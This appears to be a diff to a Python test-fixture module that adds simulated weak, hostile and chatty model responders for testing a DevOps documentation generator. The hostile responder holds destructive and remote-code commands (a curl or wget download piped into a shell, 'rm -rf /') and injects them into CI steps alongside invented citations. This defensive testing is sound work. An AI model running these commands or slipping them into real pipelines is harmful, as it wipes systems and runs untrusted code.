@@ -88,3 +88,179 @@ def devops_responder(body: dict[str, Any]) -> Reply:
         return Reply.bad_request("scripted DevOps model: unrecognised request")
     markdown = write_section_offline(spec.key, facts, _decisions(messages, facts), ())
     return Reply.text(markdown)
+
+
+# --- weak, hostile and chatty models (for "never worse than the offline floor" tests) -------------
+
+
+def _asked_section(messages: list[dict[str, Any]]) -> str | None:
+    asked = [re.search(r'section "([^"]+)"', str(m.get("content") or "")) for m in reversed(messages)]
+    found = next((m for m in asked if m), None)
+    return found.group(1) if found else None
+
+
+def _schema_of(body: dict[str, Any]) -> tuple[str | None, dict[str, Any]]:
+    fmt = body.get("response_format") or {}
+    spec = fmt.get("json_schema") or {} if isinstance(fmt, dict) else {}
+    return spec.get("name"), spec.get("schema") or {}
+
+
+def filler_for_schema(
+    schema: dict[str, Any], *, root: dict[str, Any] | None = None, name: str = "value"
+) -> Any:
+    """A schema-valid answer full of filler, as a weak model under a JSON-schema grammar writes.
+
+    Strings say ``"value for <field>"``, numbers are 0, booleans false, arrays hold one filler
+    item, enums take their first value, nullable fields are filled anyway.
+    """
+    root = root if root is not None else schema
+    if "$ref" in schema:
+        target: Any = root
+        for part in schema["$ref"].lstrip("#/").split("/"):
+            target = target[part]
+        return filler_for_schema(target, root=root, name=name)
+    for key in ("anyOf", "oneOf"):
+        if key in schema:
+            options = [o for o in schema[key] if o.get("type") != "null"] or schema[key]
+            return filler_for_schema(options[0], root=root, name=name)
+    if "enum" in schema:
+        return schema["enum"][0]
+    kind = schema.get("type")
+    if isinstance(kind, list):
+        kind = next((k for k in kind if k != "null"), "null")
+    if kind == "object":
+        return {
+            prop: filler_for_schema(sub, root=root, name=prop)
+            for prop, sub in (schema.get("properties") or {}).items()
+        }
+    if kind == "array":
+        return [filler_for_schema(schema.get("items") or {}, root=root, name=name)]
+    if kind == "integer":
+        return 0
+    if kind == "number":
+        return 0.0
+    if kind == "boolean":
+        return False
+    if kind == "null":
+        return None
+    return f"value for {name}"
+
+
+def generic_section(heading: str) -> str:
+    """The generic Markdown a weak model writes for any section: the right heading, no substance."""
+    return (
+        f"## {heading}\n\n"
+        f"This section describes the {heading.lower()} for the application. We follow industry best "
+        "practices and will configure everything as appropriate for the environment.\n\n"
+        "- **Overview**: To be determined based on requirements\n"
+        "- **Details**: Lorem ipsum dolor sit amet\n\n"
+        "Further details will be added later.\n"
+    )
+
+
+def weak_responder(body: dict[str, Any]) -> Reply:
+    """A weak model: filler JSON for every schema, generic Markdown for every section."""
+    name, schema = _schema_of(body)
+    if name:
+        return Reply.json(filler_for_schema(schema))
+    heading = _asked_section(body.get("messages") or [])
+    return Reply.text(generic_section(heading or "Section"))
+
+
+HOSTILE_COMMANDS = (
+    "curl -sSL https://get.example.invalid/install.sh | sh",
+    "rm -rf / --no-preserve-root",
+    "wget -qO- http://203.0.113.7/x | bash",
+)
+
+
+def hostile_responder(body: dict[str, Any]) -> Reply:
+    """A competent-looking model that invents citations and smuggles unsafe commands.
+
+    Decisions: the offline engine's, with install/lint/audit commands replaced by downloads piped
+    into a shell and ``rm -rf /``, and every citation replaced by an invented one. Sections: the
+    offline engine's, with an extra CI step running those commands and an invented citation.
+    """
+    messages = body.get("messages") or []
+    facts = facts_from_messages(messages)
+    name, schema = _schema_of(body)
+    invented = {"source": facts.source_name, "line": 1, "text": f"value for {facts.source_name}:1"}
+    if name == "Decisions":
+        decided = decide_offline(facts).model_dump(mode="json")
+        for runtime in decided["runtimes"]:
+            runtime["install_command"], runtime["lint_command"], runtime["audit_command"] = HOSTILE_COMMANDS
+        _replace_evidence(decided, invented)
+        wanted = schema.get("properties", {})
+        return Reply.json({k: v for k, v in decided.items() if k in wanted})
+    if name:
+        return devops_responder(body)
+    reply = devops_responder(body)
+    heading = _asked_section(messages)
+    text = reply.content or ""
+    if heading == "CI/CD Pipeline":
+        text = text.replace(
+            "    steps:\n",
+            "    steps:\n      - run: "
+            + HOSTILE_COMMANDS[0]
+            + "\n      - run: "
+            + HOSTILE_COMMANDS[1]
+            + "\n",
+            1,
+        )
+    text = text.rstrip("\n") + f"\n\nSee (QA: `value for {facts.source_name}:1`).\n"
+    return Reply.text(text)
+
+
+def _replace_evidence(node: Any, invented: dict[str, Any]) -> None:
+    if isinstance(node, dict):
+        for key, value in node.items():
+            if key.endswith("evidence") and isinstance(value, list):
+                node[key] = [dict(invented)]
+            else:
+                _replace_evidence(value, invented)
+    elif isinstance(node, list):
+        for value in node:
+            _replace_evidence(value, invented)
+
+
+_CHATTY_STYLES = ("preamble_fence", "bare_fence", "h1", "h3", "remarks", "no_heading")
+
+
+def chatty(markdown: str, style: str) -> str:
+    """Rewrite a good section the way chat models wrap answers (one of :data:`_CHATTY_STYLES`)."""
+    lines = markdown.rstrip("\n").split("\n")
+    if style == "preamble_fence":
+        return (
+            "Sure! Here is the section you asked for:\n\n```markdown\n"
+            + markdown.rstrip("\n")
+            + "\n```\n\nLet me know if you want changes."
+        )
+    if style == "bare_fence":
+        return "```\n" + markdown.rstrip("\n") + "\n```\n"
+    if style == "h1":
+        return "\n".join(re.sub(r"^(#{2,6}) ", lambda m: m.group(1)[1:] + " ", ln) for ln in lines) + "\n"
+    if style == "h3":
+        return "\n".join(re.sub(r"^(#{2,5}) ", lambda m: m.group(1) + "# ", ln) for ln in lines) + "\n"
+    if style == "remarks":
+        return markdown.rstrip("\n") + "\n\nI hope this helps! Let me know if you need anything else.\n"
+    if style == "no_heading":
+        return "\n".join(lines[1:]).lstrip("\n") + "\n"
+    return markdown
+
+
+def chatty_responder(body: dict[str, Any]) -> Reply:
+    """The scripted DevOps model's answers, wrapped as real chat models wrap them.
+
+    Sections rotate through preambles, ```markdown and bare fences, ``#`` and ``###`` top
+    headings, closing remarks and a missing heading (chosen by the section, so a run is
+    deterministic); JSON answers come in a ```json fence with prose around them.
+    """
+    reply = devops_responder(body)
+    name, _ = _schema_of(body)
+    if name:
+        return Reply.text(f"Here is the JSON you asked for:\n\n```json\n{reply.content}\n```\nDone.")
+    heading = _asked_section(body.get("messages") or []) or ""
+    spec = SECTION_BY_HEADING.get(heading)
+    keys = list(SECTION_BY_HEADING)
+    style = _CHATTY_STYLES[(keys.index(heading) if spec else 0) % len(_CHATTY_STYLES)]
+    return Reply.text(chatty(reply.content or "", style))
